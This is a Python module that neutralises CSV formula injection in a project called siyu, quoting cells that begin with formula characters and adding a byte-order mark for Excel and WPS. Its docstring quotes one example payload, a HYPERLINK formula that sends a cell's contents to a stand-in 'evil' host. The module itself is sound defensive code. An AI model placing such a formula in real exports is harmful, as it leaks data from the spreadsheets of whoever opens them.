"""CSV files that are safe to open in a spreadsheet.

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
spreadsheets strip before looking) is read by Excel, WPS and LibreOffice as a formula:
``=HYPERLINK("http://evil/?"&A1, "点击")`` in a customer's name would run when an operator
opens the export (CSV formula injection, OWASP). Every CSV siyu writes goes through
:func:`writer`, which prefixes such cells with a single quote so they are shown as text.
Numbers are left alone: ``-5`` written from an ``int`` is a value, not a formula.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: Written first in every export meant for a spreadsheet: without a byte-order mark, Excel
#: (and WPS) on a Chinese Windows read a UTF-8 file as GBK and show 客户编号 as mojibake.
#: siyu's own importers read with ``utf-8-sig``, so its exports import back unchanged.
BOM = "\ufeff"


def neutralise(value: Any) -> Any:
    """``value`` itself, or for a string a spreadsheet would evaluate, ``'`` + the string."""
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell passes through :func:`neutralise`."""

    def __init__(self, handle: Any, **fmtparams: Any):
        self._writer = csv.writer(handle, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle: Any, **fmtparams: Any) -> SafeWriter:
    """A CSV writer for files that leave siyu (exports, reject files, downloads)."""
    return SafeWriter(handle, **fmtparams)
